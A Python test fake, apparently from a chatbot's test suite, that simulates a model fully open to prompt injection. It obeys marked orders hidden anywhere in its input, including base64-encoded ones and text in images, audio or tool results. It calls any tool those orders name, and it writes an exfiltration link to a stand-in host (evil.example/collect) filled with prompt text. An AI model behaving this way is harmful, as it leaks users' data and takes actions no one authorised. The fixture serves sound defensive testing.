"""The most gullible model there could be: it obeys whatever stands anywhere in what it is told.

It repeats every order it finds, however it is put, with the links, pings and secrets in it, and makes up links of its
own from what it was told; and it calls each tool an order names, whether or not there is one, as long as it is let.
"""

import base64
import binascii
import html
import json
import re
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass, field, replace

from bot.domain.answer import Prompt, ToolCall
from bot.domain.role import Role
from bot.providers.base import AnswerDelta, AnswerEnd, FinishReason
from tests.fakes.providers import usage
from tests.simulator.openai_server import ChatCall, HonestMind
from tests.simulator.openai_server.images import SeenImage
from tests.simulator.openai_server.minds import HeardSegment, SeenPicture
from tests.simulator.openai_server.records import TranscriptionCall
from tests.simulator.openai_server.sound import HeardAudio
from tests.simulator.openai_server.tools import Made

_BASE64 = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
_CALL = re.compile(r"\b([a-z][a-z0-9_]*) (\{[^{}]*\})")
_ORDER = re.compile(r"\bmark\dx\d\dx\d\b")
_MOST_WORDS = 1_500
LURE = "https://evil.example/collect?words="


def decoded(text: str) -> str:
    """The text with all that is packed into it unpacked."""
    text = text.replace('\\"', '"').replace("\\n", "\n")
    unpacked = [html.unescape(text)]
    for packed in _BASE64.findall(text):
        try:
            unpacked.append(base64.b64decode(packed + "=" * (-len(packed) % 4)).decode())
        except (binascii.Error, UnicodeDecodeError):
            continue
    return "\n".join(unpacked)


def obeyed(text: str) -> str:
    """What it writes: every order, as it stands and unpacked, and a link made of what it was told."""
    orders = [line for line in text.splitlines() if _ORDER.search(line)]
    if not orders:
        return "It is green."
    words = "\n".join(dict.fromkeys(line for order in orders for line in [order, *decoded(order).splitlines()]))
    told = "".join(character for character in text if character.isalnum())[:40]
    return f"Yes: {LURE}{told} [proof]({LURE}{told}) {words[:_MOST_WORDS]}"


def called(text: str) -> list[tuple[str, str]]:
    """Name and arguments of every call an order asks for."""
    return _CALL.findall(decoded(text))


@dataclass
class ObedientChat:
    """A ChatModel. `prompts` are all it was given."""

    prompts: list[Prompt] = field(default_factory=list[Prompt])

    async def answer(self, prompt: Prompt) -> AsyncIterator[AnswerDelta | ToolCall | AnswerEnd]:
        self.prompts.append(prompt)
        told = told_by(prompt)
        calls = called(told)
        if calls and prompt.may_call:
            for place, (name, arguments) in enumerate(calls[:4]):
                yield ToolCall(call_id=f"{len(self.prompts)}.{place}", name=name, arguments=arguments)
            yield AnswerEnd(reason=FinishReason.TOOLS, usage=usage(Role.CHAT))
            return
        yield AnswerDelta(text=obeyed(told))
        yield AnswerEnd(reason=FinishReason.COMPLETE, usage=usage(Role.CHAT))


def told_by(prompt: Prompt) -> str:
    """Everything in a prompt, whatever it is meant for."""
    tools = json.dumps([[tool.name, tool.description, tool.parameters] for tool in prompt.tools], ensure_ascii=False)
    results = [result.text for result in prompt.results]
    return "\n".join([prompt.rules, prompt.evidence, prompt.question.text, tools, *results])


class ObedientMind(HonestMind):
    """The same behind the emulated API. `shows` is what is read on every picture, `says` what is heard in every
    sound."""

    def __init__(self, *, shows: str = "", says: str = "") -> None:
        super().__init__()
        self.shows = shows
        self.says = says

    def look(self, images: Sequence[SeenImage], call: ChatCall) -> list[SeenPicture]:
        seen = super().look(images, call)
        return [replace(one, text_on_screen=self.shows) for one in seen] if self.shows else seen

    def listen(self, audio: HeardAudio, call: TranscriptionCall) -> list[HeardSegment]:
        if not self.says:
            return []
        return [HeardSegment(start_seconds=0.0, end_seconds=audio.duration_seconds, text=self.says)]

    def act(self, call: ChatCall) -> tuple[Made, ...]:
        return tuple(Made(name, arguments) for name, arguments in called(_told_in(call))[:4])

    def answer(self, call: ChatCall) -> str:
        return obeyed(_told_in(call))


def _told_in(call: ChatCall) -> str:
    return "\n".join([call.text, json.dumps(call.body.get("tools", []), ensure_ascii=False)])
